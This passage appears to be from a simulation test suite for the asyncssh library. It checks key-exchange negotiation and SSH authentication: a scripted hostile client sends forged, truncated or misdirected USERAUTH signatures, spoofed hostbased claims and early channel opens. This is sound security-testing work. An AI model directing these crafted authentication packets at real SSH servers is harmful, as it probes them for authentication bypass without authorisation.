    sim.net.on_connection = on_connection
    c, s = plan['c'], plan['s']
    trusted = [pubkey(k) for k in ('host_ed25519', 'host_rsa',
                                   'host_ecdsa256', 'host2_ed25519')]

    def sfactory():
        o = KexServer(world)
        owners['s'].append(o)
        return o

    def cfactory():
        o = RecClient(world)
        owners['c'].append(o)
        return o

    async def main():
        acc = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=sfactory,
            **server_opts(server_host_keys=[key(k) for k in s['hostkeys']],
                          kex_algs=s['kex'], encryption_algs=s['enc'],
                          mac_algs=s['mac'], compression_algs=s['cmp'],
                          login_timeout=30))

        other = plan.get('other')

        if other:
            # a second client of the same listener, with a host key
            # algorithm list of its own, doing its handshake at the same time
            async def bystander():
                # (the connection under observation is the first one made)
                await first_up

                for _ in range(other['delay']):
                    await sim.pause('bystander')

                try:
                    c2 = await asyncssh.connect(
                        '127.0.0.1', 22,
                        **client_opts(known_hosts=(trusted, [], []),
                                      server_host_key_algs=other['hk'],
                                      login_timeout=30))
                    sim.probes['second_client_connected'] += 1
                    await world.gate('done')
                    c2.close()
                    await c2.wait_closed()
                except (asyncssh.Error, OSError):
                    pass

            sim.track('bystander', bystander())

        try:
            res['conn'] = await asyncssh.connect(
                '127.0.0.1', 22, client_factory=cfactory,
                **client_opts(known_hosts=(trusted, [], []),
                              kex_algs=c['kex'], encryption_algs=c['enc'],
                              mac_algs=c['mac'], compression_algs=c['cmp'],
                              server_host_key_algs=c['hostkey_algs'],
                              login_timeout=30))
        except Exception as exc: # pylint: disable=broad-except
            res['exc'] = exc

        await world.gate('done')

        if res['conn'] is not None:
            res['conn'].close()
            await res['conn'].wait_closed()

        acc.close()
        await acc.wait_closed()

    world.start(main())
    world.run_phase()

    w = wires[0] if wires else None
    edit = plan['edit']
    applied = bool(w and w.applied)
    conn = res['conn']

    # -- expected negotiation from the ORIGINAL lists as emitted --------------------
    expect = None
    overlap_partial = False

    if w is not None and w.d['c2s'].kexinit and w.d['s2c'].kexinit:
        ck, sk = w.d['c2s'].kexinit, w.d['s2c'].kexinit
        expect = codec.negotiate(ck, sk)

        # the emitted lists must be the configured ones, in order
        def check_list(side, k, field, cfg):
            got = [x.decode() for x in k[field] if x not in codec.PSEUDO]

            if got[:len(cfg)] != list(cfg):
                world.violation(
                    'kexinit-not-as-configured',
                    '%s KEXINIT %s = %r, configured %r' %
                    (side, field, got, cfg), sig=field)

        check_list('client', ck, 'kex', c['kex'])
        check_list('server', sk, 'kex', s['kex'])

        for d in ('cs', 'sc'):
            check_list('client', ck, 'enc_' + d, c['enc'])
            check_list('server', sk, 'enc_' + d, s['enc'])
            check_list('client', ck, 'mac_' + d, c['mac'])
            check_list('server', sk, 'mac_' + d, s['mac'])
            check_list('client', ck, 'cmp_' + d, c['cmp'])
            check_list('server', sk, 'cmp_' + d, s['cmp'])

        overlap_partial = any(
            expect[f] is not None and ck[f] and expect[f] != ck[f][0]
            for f in ('kex', 'enc_cs', 'mac_cs', 'cmp_cs', 'hostkey'))

    established = conn is not None
    server_authed = any(e[1] == 'server' and e[2] in ('begin_auth',
                                                      'auth_completed')
                        for e in world.cb)

    if applied:
        sim.probes['edit_applied'] += 1
        sim.probes['edit_' + edit['kind']] += 1

        if w.detail and w.detail[0] == 'version-tail':
            sim.probes['edit_version_tail'] += 1

        if established or server_authed:
            world.violation(
                'edited-handshake-completed',
                'on-path edit %r (%r) did not make the handshake fail: '
                'client connected=%s, server reached authentication=%s' %
                (edit, w.detail, established, server_authed),
                sig=edit['kind'] + ':' + str(edit.get('op') or
                                             edit.get('mode') or ''))

        if edit['kind'] == 'list' and expect is not None:
            sim.probes['downgrade_attempt_effective'] += 1
    elif expect is not None:
        common = all(expect[f] is not None for f in
                     ('kex', 'hostkey', 'enc_cs', 'enc_sc', 'mac_cs',
                      'mac_sc', 'cmp_cs', 'cmp_sc'))

        if common and not established:
            world.violation('handshake-failed',
                            'no edit, common algorithms exist (%r) but '
                            'connect() raised %r' % (expect, res['exc']))
        elif not common:
            sim.probes['no_common_alg'] += 1

            if established:
                world.violation('handshake-without-common-alg',
                                'connected although a category has no '
                                'common algorithm: %r' % (expect,))
            elif not isinstance(res['exc'], asyncssh.KeyExchangeFailed):
                world.violation('wrong-error', 'no common algorithm: '
                                'expected KeyExchangeFailed, got %r' %
                                (res['exc'],), sig=type(res['exc']).__name__)

    if established and expect is not None:
        sim.probes['handshake_ok'] += 1
        # (with a second client, the listener may accept the two in either
        # order: the peer of the observed client is the server connection
        # that shares its session identifier -- if there is one)
        sconns = [o.conn for o in owners['s'] if o.conn is not None]
        sconn = next((x for x in sconns
                      if x._session_id == conn._session_id),
                     sconns[0] if sconns else None)

        if sconn is None or conn._session_id != sconn._session_id or \
                not conn._session_id:
            world.violation('session-id-mismatch', 'established but the '
                            'session identifiers differ')

        def alg(x):
            return x.decode() if x is not None else None

        want_cs = (alg(expect['enc_cs']), alg(expect['mac_cs']),
                   alg(expect['cmp_cs']))
        want_sc = (alg(expect['enc_sc']), alg(expect['mac_sc']),
                   alg(expect['cmp_sc']))

        def got(cn, prefix):
            return (cn.get_extra_info(prefix + '_cipher'),
                    cn.get_extra_info(prefix + '_mac'),
                    cn.get_extra_info(prefix + '_compression'))

        def norm(t):
            # asyncssh reports the cipher name as MAC for AEAD ciphers
            enc, mac, cmp_alg = t

            if enc and ('gcm' in enc or 'chacha' in enc):
                mac = ''

            return enc, mac or '', cmp_alg

        checks = [('client send', got(conn, 'send'), want_cs),
                  ('client recv', got(conn, 'recv'), want_sc)]

        if sconn is not None:
            checks += [('server recv', got(sconn, 'recv'), want_cs),
                       ('server send', got(sconn, 'send'), want_sc)]

        for name, g, wnt in checks:
            if norm(g) != norm(wnt):
                world.violation(
                    'negotiation-mismatch',
                    '%s uses %r, first client choice the server supports '
                    'is %r' % (name, g, wnt), sig=name.split()[1])

        # host key algorithm: read off the wire (key type in K_S, algorithm
        # name inside the exchange signature of the server's kex reply)
        used_hk = hostkey_on_wire(w.d['s2c'].packets) if w else None

        if used_hk is not None and expect['hostkey'] is not None:
            sim.probes['hostkey_alg_checked'] += 1

            if used_hk[1] != expect['hostkey']:
                world.violation(
                    'negotiation-mismatch',
                    'server signed the exchange with %r (key %r), first '
                    'client choice the server supports is %r' %
                    (used_hk[1], used_hk[0], expect['hostkey']),
                    sig='hostkey')

        # (of the connection under observation, not the second client's)
        mine = {getattr(x, '_sim_label', None) for x in (conn, sconn)}
        kexes = {label: k for label, k in sim.kex_used.items()
                 if label in mine or not plan.get('other')}

        for label, used in kexes.items():
            if used and used[0] != alg(expect['kex']):
                world.violation(
                    'negotiation-mismatch',
                    '%s ran key exchange %r, expected %r' %
                    (label, used[0], alg(expect['kex'])), sig='kex')

        kx = alg(expect['kex']) or ''

        if 'group-exchange' in kx:
            sim.probes['kex_gex'] += 1
        elif kx.startswith('rsa'):
            sim.probes['kex_rsa'] += 1
        elif kx.startswith('mlkem'):
            sim.probes['kex_hybrid'] += 1

        world.states.add((kx, want_cs[0], want_cs[1]))

    world.states.add(('edit', edit['kind'], edit.get('op') or
                      edit.get('mode') or edit.get('dir'), applied,
                      established))
    world.open_gate('done')
    world.run_phase()
    world.check_loop_health(loop_errors=False)

    sample = {'edit': edit, 'applied': applied, 'detail': w.detail if w
              else None, 'expected': {k: (v.decode() if isinstance(v, bytes)
                                          else v)
                                      for k, v in (expect or {}).items()},
              'established': established, 'error': repr(res['exc'])}
    return world.result(nontrivial=applied or overlap_partial, sample=sample)
