"""C05 -- access is granted exactly when a credential check succeeded."""

import asyncssh

from simkit.refssh.peer import RefPeer, PeerError, Closed, load_private, \
    public_blob, sign, sig_algs_for
from simkit.sshwire import Reader, Short, string, u32, boolean
from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts, key, pubkey

ID = 'C05'
NAME = 'auth'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 40

RULE = ('hostile population: a real asyncssh server with a scripted '
        'application (per-user passwords, callback-validated key, '
        'authorized_keys with option sets, keyboard-interactive, a no-auth '
        'guest user; every validator and begin_auth optionally asynchronous, '
        'their completions being scheduler events) faces RefPeer sending a '
        'drawn history of up to 10 USERAUTH messages (none, password right/'
        'wrong/other user\'s, publickey query/signed with signatures over '
        'the right data or a wrong session id, user, service, key or '
        'algorithm, keyboard-interactive, hostbased -- in a quarter of the '
        'runs the server has known_client_hosts, trusts the claimed name or '
        'reverse-resolves the client address on the simulated DNS, and the '
        'requests are signed with a drawn host key for a drawn claimed name '
        'and client user, over the right data or a wrong session id / name / '
        'key), pipelined or not, then '
        'probes (session+pty+exec, direct-tcpip to two destinations). A '
        'reference model over the history decides: success only if some '
        'received request for the user the server reports was valid; before '
        'success a channel open is fatal, after it it is served; pty, forced '
        'command and permitopen behaviour must match the option set of an '
        'accepted credential. honest population: real asyncssh client with a '
        'valid password / key / certificate / wrong credential against the '
        'same server: admitted iff valid. restriction population: the '
        'server\'s authorized_keys text is generated from a structured entry '
        'list (plain and cert-authority lines with from= exact / wildcard / '
        'negated / CIDR, command=, no-pty, no-port-forwarding, permitopen=, '
        'environment=, principals=; several lines per key) and an optional '
        'CA callback; a real asyncssh client connecting from a drawn source '
        'address offers 1-3 credentials in order -- plain keys or '
        'certificates built field by field (CA trusted or not, principals, '
        'force-command, source-address, permit-pty, permit-port-forwarding, '
        'validity on the simulated clock, host type), held locally or by a '
        'key agent on the simulated network that may fail, close, or return '
        'a wrong / truncated signature or a malformed identity list. A '
        'reference model over the structure decides admission and the '
        'restriction set of the first valid credential; after admission the '
        'client probes exec (command the application sees, environment), a '
        'terminal request, direct-tcpip to two destinations and '
        'tcpip-forward: each must be served iff the model allows it. '
        'Non-trivial = at least 2 auth messages or a probe; distinct = '
        '(plan, schedule, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'the hostile client is RefPeer (independent implementation holding the '
    'session keys); the server is unmodified asyncssh',
    'the model knows the credential database the scenario configured; it '
    'never consults asyncssh\'s parse of it',
    'GSSAPI, security-key, X.509 and agent-forwarded credentials are not '
    'exercised',
    'a certificate force-command together with a different key command=, '
    'and a failed agent signature for an RSA certificate (offered under two '
    'key type names), have no documented outcome and are not judged',
]

REAL = ['asyncssh server: connection, auth, auth_keys, public_key; asyncssh '
        'client in the honest population', 'PyCA']
STUB = ['event loop + clock', 'TCP', 'executor', 'OS randomness',
        'RefPeer as hostile client', 'scripted SSHServer application',
        'key agent (StubAgent on a simulated UNIX socket)',
        'certificate builder (refssh/certs.py)']
PROBES = ['success_seen', 'pipelined', 'validator_async',
          'success_with_pending_request', 'probe_before_auth',
          'options_checked', 'honest_admitted', 'honest_rejected',
          'auth_completed_round_trip', 'empty_user_name',
          'key_pairs_shared_by_two_connections',
          'guest_success', 'kbdint_success', 'pk_success', 'pw_success',
          'hostbased_request', 'hostbased_success',
          'pop_restrict', 'agent_used', 'agent_fault_fired', 'cert_offered',
          'restrictions_checked', 'forced_command', 'forwarding_restricted',
          'restrict_undecided', 'client_env_sent']

PASSWORDS = {'alice': 'pw-alice', 'bob': 'pw-bob'}
RESTRICTED = 'command="forced-cmd",no-pty,permitopen="dest:80"'


def auth_keys_text():
    a = pubkey('user2_ed25519').export_public_key('openssh').decode().strip()
    b = pubkey('user_rsa').export_public_key('openssh').decode().strip()
    return '%s %s\n%s\n' % (RESTRICTED, a, b)


# user -> key name -> option set (None = unrestricted)
KEYS = {
    'alice': {'user_ed25519': {}},
    'bob': {'user2_ed25519': {'command': 'forced-cmd', 'no-pty': True,
                              'permitopen': {('dest', 80)}},
            'user_rsa': {}},
}
ALL_KEYS = ['user_ed25519', 'user2_ed25519', 'user_rsa', 'evil_ed25519',
            'user_ecdsa256']
USERS = ['alice', 'bob', 'guest', 'kbd', 'nobody', '']

# host-based authentication: the server's known_client_hosts, the
# application's (user, client host, client user) policy, the names a
# request may claim and the keys it may be signed with
HB_KNOWN = {'hostA': 'host2_ed25519', 'hostB': 'host2_ecdsa256'}
HB_REVOKED = 'evil_ed25519'
HB_POLICY = {('alice', 'hostA', 'alice'), ('bob', 'hostB', 'root')}
HB_CLAIMS = ['hostA', 'hostB', 'hostC', 'hostA.']
HB_KEYS = ['host2_ed25519', 'host2_ecdsa256', 'evil_ed25519', 'host2_rsa']
HB_CUSERS = ['alice', 'root']
HB_MODES = ['ok', 'wrong_sid', 'wrong_host', 'wrong_key', 'garbage']
HB_RDNS = [None, 'hostA', 'hostB', 'hostC']
HB_ADDR = '10.9.0.7'


def known_client_hosts_text():
    out = []

    for host, kname in sorted(HB_KNOWN.items()):
        out.append('%s %s' % (host, pubkey(kname).export_public_key(
            'openssh').decode().strip()))

    out.append('@revoked * %s' % pubkey(HB_REVOKED).export_public_key(
        'openssh').decode().strip())
    return '\n'.join(out) + '\n'


def gen_plan(rng):
    honest = rng.chance(15)
    restrict = rng.chance(15)
    plan = {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([10, 40, 80, 95]),
                    'p_chunk': rng.choice([10, 50]),
                    'latency_ms': rng.choice([0, 0, 3]), 'capacity': 0},
        'async_begin': rng.chance(50), 'async_pw': rng.chance(70),
        'async_pk': rng.chance(70), 'async_kbd': rng.chance(50),
        'guest': rng.chance(40),
        'val_delay': rng.choice([0, 0, 1, 2]),
    }

    if restrict:
        from checks.c05_restrict import gen_restrict
        plan['restrict'] = gen_restrict(rng)
        return plan

    if honest:
        plan['honest'] = {
            'user': rng.choice(['alice', 'bob']),
            'cred': rng.choice(['password', 'wrong_password', 'key',
                                'other_key', 'cert', 'bad_cert', 'kbd',
                                'none_needed', 'shared_key']),
            # the application's auth_completed() is a coroutine that needs
            # an answer of the client (it tries to open a connection back,
            # which this client refuses)
            'ac_roundtrip': rng.chance(50),
        }

        if plan['honest']['cred'] == 'none_needed':
            plan['guest'] = True

        return plan

    if rng.chance(25):
        # host-based authentication in the mix: does the server take the
        # client's word for its name, and what does the reverse lookup of
        # the client's address say
        plan['hb'] = {'trust': rng.chance(50), 'rdns': rng.choice(HB_RDNS)}

    hist = []

    for _ in range(rng.between(1, 10)):
        m = rng.weighted([('pw', 35), ('pk', 40), ('none', 8), ('kbd', 10),
                          ('hostbased', 3), ('chpw', 4)] +
                         ([('hb', 60)] if 'hb' in plan else []))
        user = rng.choice(USERS)
        wait = rng.chance(45)

        if m == 'pw':
            hist.append(['pw', user, rng.choice(['right', 'wrong', 'other']),
                         wait])
        elif m == 'pk':
            hist.append(['pk', user, rng.choice(ALL_KEYS),
                         rng.weighted([('ok', 40), ('nosig', 20),
                                       ('wrong_sid', 7), ('wrong_user', 7),
                                       ('wrong_service', 5),
                                       ('wrong_key', 7), ('garbage', 5),
                                       ('wrong_alg', 5), ('trailing', 4),
                                       ('empty_sig', 6), ('missing_sig', 4),
                                       ('half_sig', 4),
                                       ('empty_inner_sig', 4)]),
                         wait])
        elif m == 'kbd':
            hist.append(['kbd', user, rng.choice(['right', 'wrong']), wait])
        elif m == 'hb':
            hist.append(['hb', rng.choice(['alice', 'bob', user]),
                         rng.choice(HB_CLAIMS), rng.choice(HB_KEYS),
                         rng.weighted([('ok', 70), ('wrong_sid', 8),
                                       ('wrong_host', 8), ('wrong_key', 8),
                                       ('garbage', 6)]),
                         rng.choice(HB_CUSERS), wait])
        else:
            hist.append([m, user, wait])

    if rng.chance(12):
        hist.insert(rng.between(1, len(hist)), ['open', 'x', True])

    plan['history'] = hist
    plan['probe_before'] = rng.chance(15)
    plan['probes'] = rng.sample(['session', 'tcp_ok', 'tcp_other'],
                                rng.between(1, 3))
    return plan


def valid_plan(plan):
    try:
        if 'restrict' in plan:
            from checks.c05_restrict import valid_restrict
            return valid_restrict(plan['restrict'])

        if 'honest' in plan:
            return plan['honest']['user'] in ('alice', 'bob') and \
                plan['honest']['cred'] in (
                    'password', 'wrong_password', 'key', 'other_key', 'cert',
                    'bad_cert', 'kbd', 'none_needed', 'shared_key') and \
                (plan['honest']['cred'] != 'none_needed' or plan['guest'])

        if 'hb' in plan and (not isinstance(plan['hb']['trust'], bool) or
                             plan['hb']['rdns'] not in HB_RDNS):
            return False

        for h in plan['history']:
            if h[0] == 'open':
                if len(h) != 3:
                    return False

                continue

            if h[0] not in ('pw', 'pk', 'kbd', 'none', 'hostbased', 'chpw',
                            'hb'):
                return False

            if h[0] == 'hb' and ('hb' not in plan or len(h) != 7 or
                                 h[2] not in HB_CLAIMS or
                                 h[3] not in HB_KEYS or
                                 h[4] not in HB_MODES or
                                 h[5] not in HB_CUSERS):
                return False

            if len(h) != {'pw': 4, 'pk': 5, 'kbd': 4, 'hb': 7}.get(h[0], 3) or \
                    not isinstance(h[-1], bool):
                return False

            if h[0] == 'pw' and h[2] not in ('right', 'wrong', 'other'):
                return False

            if h[0] == 'kbd' and h[2] not in ('right', 'wrong'):
                return False

            if h[1] not in USERS:
                return False

            if h[0] == 'pk' and h[2] not in ALL_KEYS:
                return False

        return len(plan['history']) >= 1
    except (KeyError, TypeError, IndexError):
        return False


# -- reference model (DESIGN.md A.3) ---------------------------------------------------

def model_valid(plan, h):
    """Is this history entry a valid credential for its user?  Returns
       (valid, options) -- options is the restriction set that then applies"""

    m, user = h[0], h[1]

    if m == 'none':
        return (user == 'guest' and plan['guest']), {}

    if user == 'guest' and plan['guest']:
        # guest needs no authentication: any request for it is admitted
        return True, {}

    if m == 'pw':
        return (user in PASSWORDS and h[2] == 'right'), {}

    if m == 'kbd':
        return (user == 'kbd' and h[2] == 'right'), {}

    if m == 'hb':
        claimed, keyname, mode, cuser = h[2], h[3], h[4], h[5]
        claimed = claimed[:-1] if claimed.endswith('.') else claimed

        # the name the key is looked up under: the client's word if the
        # server trusts it, else what the reverse lookup of its address says
        looked_up = claimed if plan['hb']['trust'] else \
            (plan['hb']['rdns'] or HB_ADDR)

        return (mode == 'ok' and HB_KNOWN.get(looked_up) == keyname and
                (user, looked_up, cuser) in HB_POLICY), {}

    if m == 'pk':
        keyname, mode = h[2], h[3]
        opts = KEYS.get(user, {}).get(keyname)

        if opts is None or mode not in ('ok', 'wrong_alg'):
            return False, {}

        # 'wrong_alg': the request names another algorithm than the key's,
        # but the signature by the authorized key covers the exact request;
        # RFC 4252 leaves the server free to reject it, asyncssh ignores the
        # field.  Either outcome is accepted (None = don't care).
        return (True if mode == 'ok' else None), opts

    return False, {}


class ProbeSess(asyncssh.SSHServerSession):
    def __init__(self, app):
        self.app = app
        self.chan = None

    def connection_made(self, chan):
        self.chan = chan

    def pty_requested(self, *args):
        self.app.seen['pty_granted'] = True
        return True

    def exec_requested(self, command):
        self.app.seen['command'] = command
        return True

    def shell_requested(self):
        self.app.seen['command'] = None
        return True


class TcpSess(asyncssh.SSHTCPSession):
    pass


class AuthServer(RecServer):
    def __init__(self, world, plan):
        super().__init__(world)
        self.plan = plan
        self.sim = world.sim
        self.seen = {'tcp': []}
        self.completed_as = None
        self.validations = []
        self.begun = set()
        self.not_begun = []

    async def _delay(self, label):
        for _ in range(1 + self.plan['val_delay']):
            await self.sim.app_event(label)

    def begin_auth(self, username):
        self.begun.add(username)

        def decide():
            if username == 'bob':
                self.conn.set_authorized_keys(
                    asyncssh.import_authorized_keys(auth_keys_text()))

            return not (username == 'guest' and self.plan['guest'])

        if self.plan['async_begin']:
            async def later():
                await self._delay('begin')
                return decide()

            return later()

        return decide()

    def auth_completed(self):
        self.completed_as = self.conn.get_extra_info('username')
        self.world.event(self.name, 'auth_completed', self.completed_as)

        if (self.plan.get('honest') or {}).get('ac_roundtrip'):
            async def later():
                try:
                    await self.conn.create_connection(
                        asyncssh.SSHTCPSession, 'status.invalid', 9)
                except asyncssh.Error:
                    pass

                self.sim.probes['auth_completed_round_trip'] += 1

            return later()

        return None

    def password_auth_supported(self):
        return True

    def _check_begun(self, what, username):
        # the application is asked about a user it was never told of:
        # whatever begin_auth() sets up or refuses per user did not happen
        if username not in self.begun:
            self.not_begun.append((what, username))

    def validate_password(self, username, password):
        self._check_begun('validate_password', username)
        ok = PASSWORDS.get(username) == password
        self.validations.append(('pw', username, ok))

        if self.plan['async_pw']:
            async def later():
                await self._delay('pwval')
                return ok

            return later()

        return ok

    def public_key_auth_supported(self):
        return True

    def validate_public_key(self, username, k):
        self._check_begun('validate_public_key', username)
        ok = username == 'alice' and \
            k.public_data == pubkey('user_ed25519').public_data
        self.validations.append(('pk', username, ok))

        if self.plan['async_pk']:
            async def later():
                await self._delay('pkval')
                return ok

            return later()

        return ok

    def validate_ca_key(self, username, k):
        return k.public_data == pubkey('ca_ed25519').public_data

    def kbdint_auth_supported(self):
        return True

    def get_kbdint_challenge(self, username, lang, submethods):
        if username != 'kbd':
            return False

        return 'title', 'instr', '', [('answer?', False)]

    def validate_kbdint_response(self, username, responses):
        ok = username == 'kbd' and list(responses) == ['yes']

        if self.plan['async_kbd']:
            async def later():
                await self._delay('kbdval')
                return ok

            return later()

        return ok

    def validate_host_based_user(self, username, client_host,
                                 client_username):
        ok = (username, client_host, client_username) in HB_POLICY
        self.validations.append(('hb', username, client_host,
                                 client_username, ok))

        if self.plan['async_pk']:
            async def later():
                await self._delay('hbval')
                return ok

            return later()

        return ok

    def session_requested(self):
        return ProbeSess(self)

    def connection_requested(self, dest_host, dest_port, orig_host,
                             orig_port):
        self.seen['tcp'].append((dest_host, dest_port))
        return TcpSess()


def auth_request(peer, user, method, rest, service=b'ssh-connection'):
    return bytes([50]) + string(user) + string(service) + string(method) + \
        rest


def build_pk(peer, user, keyname, mode):
    priv = load_private(keyname)
    blob = public_blob(priv)
    alg = sig_algs_for(priv)[0]

    if mode == 'nosig':
        return auth_request(peer, user, b'publickey',
                            boolean(False) + string(alg) + string(blob))

    if mode == 'wrong_alg':
        walg = b'ssh-rsa' if alg != b'ssh-rsa' else b'ssh-ed25519'
        body = boolean(True) + string(walg) + string(blob)
    else:
        body = boolean(True) + string(alg) + string(blob)

    sid = peer.session_id
    suser, sservice = user, b'ssh-connection'
    signer = priv

    if mode == 'wrong_sid':
        sid = bytes(len(sid))
    elif mode == 'wrong_user':
        suser = user + 'x'
    elif mode == 'wrong_service':
        sservice = b'ssh-userauth'
    elif mode == 'wrong_key':
        signer = load_private('evil_ed25519')

    signed = string(sid) + bytes([50]) + string(suser) + string(sservice) + \
        string(b'publickey') + body

    if mode == 'garbage':
        sig = string(alg) + string(bytes(64))
    elif mode == 'empty_sig':
        # "signature follows" is TRUE, the signature string has length 0
        return auth_request(peer, user, b'publickey', body + string(b''))
    elif mode == 'missing_sig':
        # "signature follows" is TRUE, the packet ends after the key blob
        return auth_request(peer, user, b'publickey', body)
    elif mode == 'empty_inner_sig':
        sig = string(alg) + string(b'')
    else:
        sig = sign(signer, sig_algs_for(signer)[0] if mode == 'wrong_key'
                   else alg, signed)

    if mode == 'half_sig':
        sig = sig[:len(sig) // 2]

    out = auth_request(peer, user, b'publickey', body + string(sig))

    if mode == 'trailing':
        out += b'\x00'

    return out


def build_hb(peer, user, claimed, keyname, mode, cuser):
    priv = load_private(keyname)
    alg = sig_algs_for(priv)[0]
    body = string(alg) + string(public_blob(priv))
    sid = peer.session_id
    shost = claimed
    signer = priv

    if mode == 'wrong_sid':
        sid = bytes(len(sid))
    elif mode == 'wrong_host':
        shost = 'hostB' if claimed.startswith('hostA') else 'hostA'
    elif mode == 'wrong_key':
        signer = load_private('evil_ecdsa256' if keyname != 'evil_ecdsa256'
                              else 'evil_rsa')

    signed = string(sid) + bytes([50]) + string(user) + \
        string(b'ssh-connection') + string(b'hostbased') + body + \
        string(shost) + string(cuser)

    if mode == 'garbage':
        sig = string(alg) + string(bytes(64))
    else:
        sig = sign(signer, sig_algs_for(signer)[0], signed)

    return auth_request(peer, user, b'hostbased', body + string(claimed) +
                        string(cuser) + string(sig))


def run_hostile(world, plan):
    sim = world.sim
    from simkit import seams
    app = {}
    res = {'success_at': None, 'replies': [], 'probe': {}, 'error': None,
           'sent': 0, 'pre_probe': None}
    hist = plan['history']

    def sfactory():
        app['o'] = AuthServer(world, plan)
        return app['o']

    async def script(peer):
        await peer.handshake()
        peer.send(bytes([5]) + string(b'ssh-userauth'))
        await peer.expect(6)

        async def drain_reply():
            """One reply to the latest request (skipping banners)"""

            while True:
                p = await peer.recv()

                if p[0] in (53, 7):
                    continue

                res['replies'].append(p[0])

                if p[0] == 52:
                    res['success_at'] = res['sent']
                    peer.authed = True

                return p

        if plan.get('probe_before'):
            sim.probes['probe_before_auth'] += 1
            peer.send(bytes([90]) + string(b'session') + u32(1) +
                      u32(1 << 20) + u32(32768))

            try:
                p = await peer.recv()
                res['pre_probe'] = p[0]
            except Closed:
                res['pre_probe'] = 'closed'

            return

        for h in hist:
            m, user, wait = h[0], h[1], h[-1]

            if res['success_at'] is not None:
                break

            if m == 'open':
                # a connection-protocol message in the middle of the
                # authentication dialogue: must be fatal
                sim.probes['probe_before_auth'] += 1
                peer.send(bytes([90]) + string(b'session') + u32(1) +
                          u32(1 << 20) + u32(32768))
                res['mid_open'] = True

                try:
                    while True:
                        p = await peer.recv()

                        if p[0] in (91, 92):
                            res['mid_open_reply'] = p[0]
                            break

                        if p[0] == 52:
                            res['success_at'] = res['sent']
                            peer.authed = True
                        elif p[0] not in (53, 7):
                            res['replies'].append(p[0])
                except Closed:
                    res['mid_open_reply'] = 'closed'

                break

            if m == 'pw':
                pw = {'right': PASSWORDS.get(user, 'x'), 'wrong': 'nope',
                      'other': PASSWORDS['alice' if user != 'alice'
                                         else 'bob']}[h[2]]
                peer.send(auth_request(peer, user, b'password',
                                       boolean(False) + string(pw)))
            elif m == 'chpw':
                peer.send(auth_request(
                    peer, user, b'password', boolean(True) +
                    string(PASSWORDS.get(user, 'x')) + string('newpw')))
            elif m == 'pk':
                peer.send(build_pk(peer, user, h[2], h[3]))
            elif m == 'none':
                peer.send(auth_request(peer, user, b'none', b''))
            elif m == 'hb':
                sim.probes['hostbased_request'] += 1
                peer.send(build_hb(peer, user, h[2], h[3], h[4], h[5]))
            elif m == 'hostbased':
                blob = public_blob(load_private('user_ed25519'))
                peer.send(auth_request(
                    peer, user, b'hostbased', string(b'ssh-ed25519') +
                    string(blob) + string(b'client.host') + string(user) +
                    string(string(b'ssh-ed25519') + string(bytes(64)))))
            else:
                peer.send(auth_request(peer, user, b'keyboard-interactive',
                                       string(b'') + string(b'')))

            res['sent'] += 1

            if not wait:
                sim.probes['pipelined'] += 1
                continue

            p = await drain_reply()

            if m == 'kbd' and p[0] == 60:
                r = Reader(p, 1)
                r.string(), r.string(), r.string()
                n = r.u32()
                ans = 'yes' if h[2] == 'right' else 'no'
                peer.send(bytes([61]) + u32(n) +
                          b''.join(string(ans) for _ in range(n)))
                await drain_reply()

        # collect whatever replies are still coming
        await world.gate('replies')

        while peer.inbox:
            p = peer.inbox.pop(0)

            if p[0] in (53, 7, 2, 4):
                continue

            res['replies'].append(p[0])

            if p[0] == 52 and res['success_at'] is None:
                res['success_at'] = res['sent']
                peer.authed = True

        if peer.closed is not None:
            return

        # -- probes -------------------------------------------------------------------
        for pr in plan['probes']:
            if peer.closed is not None:
                break

            if pr == 'session':
                peer.send(bytes([90]) + string(b'session') + u32(11) +
                          u32(1 << 20) + u32(32768))
                p = await peer.recv()
                res['probe']['session_open'] = p[0]

                if p[0] != 91:
                    continue

                their = Reader(p, 5).u32()
                peer.send(bytes([98]) + u32(their) + string(b'pty-req') +
                          boolean(True) + string(b'xterm') + u32(80) +
                          u32(24) + u32(0) + u32(0) + string(b'\x00'))
                p = await peer.expect(99, 100)
                res['probe']['pty'] = p[0]
                peer.send(bytes([98]) + u32(their) + string(b'exec') +
                          boolean(True) + string(b'mycmd'))

                while True:
                    p = await peer.recv()

                    if p[0] in (99, 100):
                        break

                res['probe']['exec'] = p[0]
            else:
                host, port = ('dest', 80) if pr == 'tcp_ok' else ('other', 81)
                peer.send(bytes([90]) + string(b'direct-tcpip') + u32(12) +
                          u32(1 << 20) + u32(32768) + string(host) +
                          u32(port) + string(b'orig') + u32(1234))

                while True:
                    p = await peer.recv()

                    if p[0] in (91, 92):
                        break

                res['probe'][pr] = p[0]

    async def main():
        extra = {}
        ckw = {}

        if 'hb' in plan:
            extra = dict(
                known_client_hosts=asyncssh.import_known_hosts(
                    known_client_hosts_text()),
                trust_client_host=plan['hb']['trust'])
            ckw = dict(local_addr=(HB_ADDR, 0))

            if plan['hb']['rdns']:
                sim.net.rdns[HB_ADDR] = plan['hb']['rdns']

        acc = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=sfactory,
            **server_opts(login_timeout=60, **extra))
        peer = RefPeer(sim, 'client', rand=seams._urandom,
                       kex=['curve25519-sha256'], enc=['aes128-ctr'],
                       mac=['hmac-sha2-256'])
        res['peer'] = peer
        await sim.loop.create_connection(lambda: peer, '127.0.0.1', 22,
                                         **ckw)

        try:
            await script(peer)
        except (PeerError, Closed, Short) as exc:
            res['error'] = exc

        await world.gate('done')
        peer.close()
        acc.close()
        await acc.wait_closed()

    world.start(main())
    world.run_phase()
    world.open_gate('replies')
    world.run_phase()

    peer = res.get('peer')

    if peer is not None and peer.bug:
        world.close()
        from simkit.runner import HarnessError
        raise HarnessError('RefPeer stub crashed:\n' + peer.bug)

    o = app.get('o')
    success = res['success_at'] is not None or \
        (o is not None and o.completed_as is not None)

    if plan.get('probe_before'):
        if res['pre_probe'] == 91:
            world.violation('channel-before-auth', 'CHANNEL_OPEN before '
                            'authentication was confirmed')
        elif o is not None and not o.lost:
            world.violation('channel-before-auth', 'CHANNEL_OPEN before '
                            'authentication did not end the connection '
                            '(reply %r)' % (res['pre_probe'],))

    if res.get('mid_open') and o is not None and not plan.get('probe_before'):
        label = next((l for l in sim.pkts if l.startswith('S')), None)
        pk = sim.pkts.get(label, [])
